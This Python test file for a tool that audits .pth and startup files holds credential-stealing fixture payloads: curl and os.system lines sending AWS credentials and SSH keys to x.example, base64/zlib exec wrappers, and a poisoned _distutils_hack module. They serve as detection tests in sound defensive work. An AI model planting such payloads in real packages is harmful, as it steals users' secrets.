"""analysis.judge: what may be signed without a word, and what needs an approval by hash."""

from __future__ import annotations

import base64
import hashlib
import zlib

import pytest

from pthguard.analysis.judge import Candidate, imports_of, judge
from pthguard.errors import ApprovalError
from pthguard.formats.approvals import parse_approval
from pthguard.manifest.model import Approval

SITE = "/venv/lib/python3.12/site-packages"
V312 = ((3, 12),)
# setuptools' distutils-precedence.pth (60.0.0 to 84.2.1), byte for byte
DISTUTILS_PTH = (
    b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
    b"== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
HACK = b"# the real _distutils_hack\nimport sys\n"
STEALER = "import subprocess; subprocess.run(['curl', '-d', '@/root/.aws/credentials', 'x'])\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def pth(name: str, data: bytes, owner: str | None = "pkg 1.0") -> Candidate:
    return Candidate(path=f"{SITE}/{name}", name=name, kind="pth", data=data,
                     distribution=owner, versions=V312)  # fmt: skip


def imported(
    name: str, data: bytes, importer: str, owner: str | None, record: str | None
) -> Candidate:
    return Candidate(
        path=f"{SITE}/{name}", name=name, kind="imported", data=data, distribution=owner,
        record_sha256=record, importer=f"{SITE}/{importer}", versions=V312,
    )  # fmt: skip


def litellm_shapes() -> dict[str, bytes]:
    payload = STEALER.encode()
    b64 = base64.b64encode(payload).decode()
    zb64 = base64.b64encode(zlib.compress(payload)).decode()
    return {
        "base64+exec": f"import os; exec(__import__('base64').b64decode('{b64}'))\n".encode(),
        "zlib+base64": (
            f"import zlib, base64; exec(zlib.decompress(base64.b64decode('{zb64}')))\n".encode()
        ),
        "os.system": b"import os; os.system('curl -d @$HOME/.ssh/id_ed25519 http://x.example')\n",
        "open": (
            b"import os; open('/tmp/.x', 'w').write(open(os.path.expanduser('~/.netrc')).read())\n"
        ),
        "imports a module beside it": b"import litellm_helper\n",
    }


def test_path_only_known_and_template_files_pass() -> None:
    editable = b"import __editable___proj_1_0_finder; __editable___proj_1_0_finder.install()\n"
    result = judge(
        [pth("paths.pth", b"../src\n# comment\n"), pth("distutils-precedence.pth", DISTUTILS_PTH),
         pth("__editable__.proj-1.0.pth", editable)],
        previous={}, approvals=[],
    )  # fmt: skip
    assert result.ok
    whys = {r.name: r.why for r in result.reviews}
    assert whys["paths.pth"] == "path lines only: no code runs"
    assert whys["distutils-precedence.pth"].startswith("known legitimate file: setuptools")
    assert whys["__editable__.proj-1.0.pth"] == (
        "known legitimate file: every import line is a setuptools template line"
    )


@pytest.mark.parametrize("shape", sorted(litellm_shapes()))
def test_every_stealer_shape_needs_an_approval(shape: str) -> None:
    data = litellm_shapes()[shape]
    result = judge([pth("litellm_init.pth", data, "litellm 1.82.8")], previous={}, approvals=[])
    (review,) = result.pending
    assert review.verdict == "needs-approval"
    assert review.approve_with == f"sha256:{sha(data)}"
    assert review.distribution == "litellm 1.82.8"
    if shape in ("base64+exec", "zlib+base64"):
        assert review.analysis.severity == "high"
        assert any("aws/credentials" in d.text for d in review.analysis.decoded)


def test_an_approval_by_hash_approves_exactly_that_file() -> None:
    data = litellm_shapes()["base64+exec"]
    other = litellm_shapes()["os.system"]
    request = parse_approval(f"sha256:{sha(data)} litellm_init.pth # vendor confirmed")
    result = judge(
        [pth("litellm_init.pth", data), pth("other.pth", other)],
        previous={}, approvals=[request],
    )  # fmt: skip
    verdicts = {r.name: r.verdict for r in result.reviews}
    assert verdicts == {"litellm_init.pth": "approved", "other.pth": "needs-approval"}
    (approval,) = result.approvals("ab" * 32)
    assert approval == Approval(
        sha256=sha(data),
        name="litellm_init.pth",
        distribution="pkg 1.0",
        keyid="ab" * 32,
        reason="vendor confirmed",
    )


def test_an_approval_of_a_hash_that_is_not_there_is_an_error() -> None:
    request = parse_approval("sha256:" + "0" * 64)
    with pytest.raises(ApprovalError, match="no startup file to sign has sha256 0000"):
        judge([pth("a.pth", b"import os\n")], previous={}, approvals=[request])


def test_an_approval_naming_another_file_is_an_error() -> None:
    data = b"import os\n"
    request = parse_approval(f"sha256:{sha(data)} b.pth", "approvals.txt:4")
    with pytest.raises(ApprovalError, match=r"approvals\.txt:4: sha256 .* is a\.pth, not b\.pth"):
        judge([pth("a.pth", data)], previous={}, approvals=[request])


def test_unchanged_since_the_previous_manifest_passes_and_a_change_does_not() -> None:
    data = b"import os\n"
    result = judge([pth("a.pth", data)], previous={sha(data): "a.pth as signed in version 3"},
                   approvals=[])  # fmt: skip
    assert result.ok
    assert result.reviews[0].why == "unchanged: a.pth as signed in version 3"
    result = judge([pth("a.pth", data + b"import sys\n")], previous={sha(data): "x"}, approvals=[])
    assert not result.ok


def test_a_module_a_legit_pth_imports_passes_only_with_its_distributions_bytes() -> None:
    legit = pth("distutils-precedence.pth", DISTUTILS_PTH, "setuptools 80.9.0")
    good = imported("_distutils_hack/__init__.py", HACK, "distutils-precedence.pth",
                    "setuptools 80.9.0", sha(HACK))  # fmt: skip
    assert judge([legit, good], previous={}, approvals=[]).ok
    poisoned = HACK + STEALER.encode()
    bad = imported("_distutils_hack/__init__.py", poisoned, "distutils-precedence.pth",
                   "setuptools 80.9.0", sha(HACK))  # fmt: skip
    (review,) = judge([legit, bad], previous={}, approvals=[]).pending
    assert review.name == "_distutils_hack/__init__.py"
    assert review.analysis.severity in ("high", "medium")


def test_a_module_an_unknown_pth_imports_needs_its_own_approval() -> None:
    helper = b"import os\nos.system('id')\n"
    line = pth("zz.pth", b"import helper\n", owner=None)
    module = imported("helper.py", helper, "zz.pth", None, None)
    result = judge(
        [line, module],
        previous={},
        approvals=[parse_approval(f"sha256:{sha(b'import helper' + bytes([10]))}")],
    )
    assert [r.name for r in result.pending] == ["helper.py"]


def test_approvals_carry_forward_while_the_file_is_there() -> None:
    data = b"import os\n"
    kept = Approval(sha256=sha(data), name="a.pth", reason="old")
    gone = Approval(sha256="f" * 64, name="gone.pth")
    result = judge([pth("a.pth", data)], previous={sha(data): "approved in version 2"},
                   approvals=[])  # fmt: skip
    assert result.approvals(None, [kept, gone]) == (kept,)


def test_imports_of_follows_dynamic_and_exec_layers() -> None:
    assert imports_of(DISTUTILS_PTH, V312) == ["os", "_distutils_hack"]
    cov = b"import os, sys;exec('if 1:\\n  from pytest_cov.embed import init\\n  init()')\n"
    assert imports_of(cov, V312) == ["os", "sys", "pytest_cov.embed"]
    assert imports_of(b"../relative/path\n", V312) == []


def test_a_startup_module_that_came_with_the_interpreter_passes() -> None:
    """Debian's stdlib sitecustomize: outside every site directory, no RECORD claims it."""
    data = b"# install the apport exception handler if available\nimport apport_python_hook\n"
    stdlib = Candidate(path="/usr/lib/python3.12/sitecustomize.py", name="sitecustomize.py",
                       kind="module", data=data, with_interpreter=True, versions=V312)  # fmt: skip
    site = Candidate(path=f"{SITE}/sitecustomize.py", name="sitecustomize.py", kind="module",
                     data=data, versions=V312)  # fmt: skip
    assert (
        judge([stdlib], previous={}, approvals=[])
        .reviews[0]
        .why.startswith("part of the interpreter")
    )
    assert not judge([site], previous={}, approvals=[]).ok


def test_a_module_another_distribution_overwrote_is_not_vouched_for() -> None:
    """A wheel that ships its own ``_distutils_hack/__init__.py`` (its RECORD lists its own
    bytes) does not inherit setuptools' standing: the module needs an approval."""
    legit = pth("distutils-precedence.pth", DISTUTILS_PTH, "setuptools 80.9.0")
    poisoned = HACK + STEALER.encode()
    theirs = imported("_distutils_hack/__init__.py", poisoned, "distutils-precedence.pth",
                      "evilpkg 1.0", sha(poisoned))  # fmt: skip
    (review,) = judge([legit, theirs], previous={}, approvals=[]).pending
    assert review.name == "_distutils_hack/__init__.py"
    unowned = imported("_distutils_hack/__init__.py", HACK, "distutils-precedence.pth",
                       None, None)  # fmt: skip
    assert not judge([legit, unowned], previous={}, approvals=[]).ok
